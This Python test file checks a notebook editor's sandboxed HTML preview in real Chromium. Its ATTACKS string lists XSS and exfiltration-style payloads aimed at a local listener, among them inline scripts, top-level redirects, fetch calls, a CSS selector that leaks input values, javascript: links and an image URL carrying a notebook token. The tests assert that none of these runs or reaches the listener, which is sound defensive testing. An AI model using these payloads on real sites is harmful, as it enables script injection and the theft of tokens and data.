"""The preview's box in real Chromium: whatever a page holds, nothing runs, nothing leaves, nothing is reached."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from lentera.widgets.editor.session import EditorSession

pytestmark = pytest.mark.browser

ATTACKS = """<!doctype html>
<html lang="id" onload="parent.hacked=1">
<head>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/refresh">
<base href="http://127.0.0.1:9/">
<script>parent.hacked = 1; top.location = "http://127.0.0.1:9/top"; fetch("http://127.0.0.1:9/fetch")</script>
<link rel="stylesheet" href="http://127.0.0.1:9/style.css">
<style>@import url(http://127.0.0.1:9/import.css); body{background:url(http://127.0.0.1:9/back.png)}
h1{background:image-set("http://127.0.0.1:9/set.png" 1x)} @font-face{font-family:x;src:url(http://127.0.0.1:9/font)} p{font-family:x}
input[value^="a"]{background:url(http://127.0.0.1:9/steal?a)}</style>
</head>
<body onload="parent.hacked=2" background="http://127.0.0.1:9/body.png">
<h1 onclick="parent.hacked=3">Judul serangan</h1>
<p style="background:url(http://127.0.0.1:9/inline)">teks</p>
<img src="http://127.0.0.1:9/img.png" onerror="parent.hacked=4">
<img src="x" onerror="parent.hacked=5" srcset="http://127.0.0.1:9/srcset.png 1x">
<svg onload="parent.hacked=6"><script>parent.hacked=7</script><image href="http://127.0.0.1:9/svg.png"/></svg>
<iframe src="http://127.0.0.1:9/iframe" srcdoc="<script>parent.parent.hacked=8</script>"></iframe>
<object data="http://127.0.0.1:9/object"></object><embed src="http://127.0.0.1:9/embed">
<video src="http://127.0.0.1:9/video" poster="http://127.0.0.1:9/poster" autoplay></video>
<a id="lab" href="/lab" target="_top">ke lab</a> <a id="js" href="javascript:parent.hacked=9">js</a>
<a id="bagian" href="#bawah">bawah</a>
<form action="http://127.0.0.1:9/post" method="post"><input name="a" value="abc" autofocus><button id="kirim">Kirim</button></form>
<details open ontoggle="parent.hacked=10"><summary>x</summary></details>
</body>
</html>
"""


@pytest.fixture
def outside():
    """A server that nobody should ask; it notes whoever does."""
    heard = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that the server looks for

        def log_message(self, *_args):
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.heard = heard
    server.attacks = ATTACKS.replace("127.0.0.1:9", f"127.0.0.1:{server.server_port}")
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def opened(screen, place, text):
    session = EditorSession(place, "bebas")
    session.handle({"do": "type", "file": "index.html", "text": text, "base": session.view["stamp"]})
    shown = screen(session)
    shown.asked = []
    shown.page.on("request", lambda request: shown.asked.append(request.url))
    return shown


def retyped(shown, text):
    """Write the page anew while somebody listens."""
    session = shown.activity
    view = session.handle({"do": "type", "file": "index.html", "text": text, "base": session.view["stamp"]})
    shown.page.evaluate("(view) => window.show(view)", view)
    shown.settle()


def inside(shown):
    shown.page.wait_for_selector(".ed-frame[data-shown]")
    shown.page.wait_for_timeout(300)
    return shown.page.query_selector(".ed-frame[data-shown]").content_frame()


def only_blocked(shown):
    """Take what the browser wrote about things it did not do; anything else fails the test."""
    words = ("Blocked", "blocked", "violates the following Content Security Policy", "sandbox")
    left = [text for text in shown.broken if not any(word in text for word in words)]
    shown.broken.clear()
    return left == []


def outside_requests(asked):
    return [url for url in asked if not url.startswith(("data:", "blob:", "about:"))]


def test_nothing_runs_and_nothing_is_asked_for(screen, place, outside):
    shown = opened(screen, place, "<h1>Baik</h1>")
    retyped(shown, outside.attacks)
    frame = inside(shown)
    assert "Judul serangan" in frame.evaluate("document.body.innerText")
    shown.page.wait_for_timeout(700)
    assert outside.heard == []
    assert outside_requests(shown.asked) == []
    assert shown.page.evaluate("window.hacked") is None
    assert shown.page.url == "about:blank"


def test_clicks_on_links_and_forms_lead_nowhere(screen, place, outside):
    shown = opened(screen, place, outside.attacks)
    frame = inside(shown)
    for text in ("ke lab", "js", "bawah", "Kirim"):
        frame.get_by_text(text, exact=True).first.click()
        shown.page.wait_for_timeout(100)
    assert frame.url == "about:srcdoc"
    assert "Judul serangan" in frame.evaluate("document.body.innerText")
    assert outside.heard == []
    assert outside_requests(shown.asked) == []
    assert shown.page.evaluate("window.hacked") is None
    assert only_blocked(shown)


def test_the_frame_and_its_policy_hold_even_where_the_writer_overlooked_something(screen, place, outside):
    """The page is put into the box as it came, behind the policy alone."""
    shown = opened(screen, place, "<h1>Baik</h1>")
    page = shown.page
    page.wait_for_selector(".ed-frame[data-shown]")
    frame = page.query_selector(".ed-frame")
    assert frame.get_attribute("sandbox") == ""
    policy = shown.activity.view["preview"]["html"].split("<style>")[0].split("<head>")[1]
    without_forward = "\n".join(line for line in outside.attacks.splitlines() if "refresh" not in line)
    hostile = f"<!doctype html><html><head>{policy}{without_forward.split('<head>')[1]}"
    page.evaluate("(html) => { document.querySelector('.ed-frame').srcdoc = html; }", hostile)
    page.wait_for_timeout(1000)
    assert outside.heard == []
    assert page.evaluate("window.hacked") is None
    assert page.url == "about:blank"
    assert only_blocked(shown)


def test_nothing_of_the_notebook_can_be_reached(screen, place):
    shown = opened(screen, place, "<h1>Baik</h1>")
    frame = inside(shown)
    # The test reaches into every frame; what the frame itself sees is another origin.
    assert frame.evaluate("window.origin") == "null"
    for reach in ("parent.document.cookie", "document.cookie", "localStorage.length", "top.location.href"):
        found = frame.evaluate(
            f"(() => {{ try {{ return {reach} }} catch (error) {{ return error.name }} }})()"
        )
        assert found == "SecurityError", reach


def test_tens_of_thousands_of_tags_and_a_long_page_do_not_stop_the_screen(screen, place):
    shown = opened(screen, place, "<h1>Baik</h1>")
    for text in ("<div>" * 40_000 + "dalam", "<p>kata</p>" * 1_500):
        retyped(shown, text)
        shown.page.get_by_role("button", name="Periksa").click()
        shown.settle()
        assert shown.live


CELL = """
from lentera.place import Place
from lentera.widgets.activity_widget import show
from lentera.widgets.editor.session import EditorSession
session = EditorSession(Place.here(), "s03-kotak")
session.handle({{"do": "type", "file": "index.html", "text": {text!r}, "base": session.view["stamp"]}})
show(session)
"""


def test_in_a_real_notebook_the_page_reaches_neither_server_nor_token(page, notebooks):
    text = (
        ATTACKS.replace("http://127.0.0.1:9", notebooks.url)
        + f'<img src="{notebooks.url}/api/contents?token={notebooks.token}">'
    )
    page.goto(notebooks.write("kotak.ipynb", CELL.format(text=text)))
    page.wait_for_selector(".jp-Cell", timeout=60_000)
    asked = []
    for _try in range(5):
        page.locator(".jp-Cell").first.click(position={"x": 5, "y": 5})
        page.keyboard.press("Control+Enter")
        try:
            page.wait_for_selector(".lentera .ed-frame[data-shown]", timeout=15_000)
            break
        except Exception:  # noqa: BLE001, S112 - too early: press again
            continue
    page.on("request", lambda request: asked.append((request.frame.url, request.url)))
    page.locator(".cm-content[aria-label^='Kode index.html']").click()
    page.keyboard.press("Control+Home")
    page.keyboard.type("b")
    page.wait_for_timeout(1500)
    frame = page.query_selector(".ed-frame[data-shown]").content_frame()
    assert "Judul serangan" in frame.evaluate("document.body.innerText")
    frame.get_by_text("ke lab", exact=True).click()
    frame.get_by_text("Kirim", exact=True).click()
    page.wait_for_timeout(500)
    assert [url for source, url in asked if source in {"about:srcdoc", frame.url}] == []
    assert not [
        url
        for _source, url in asked
        if any(word in url for word in ("refresh", "/img.png", "/post", "/steal", "style.css", "/fetch"))
    ]
    assert page.url.split("?")[0].endswith("kotak.ipynb")
    assert page.evaluate("window.hacked") is None
    # A bare letter is text, and no shortcut of the notebook.
    assert page.locator(".jp-Cell").count() == 1
    assert (notebooks.root / "situs/index.html").read_text(encoding="utf-8").startswith("b<!doctype")
    assert page.outside == []
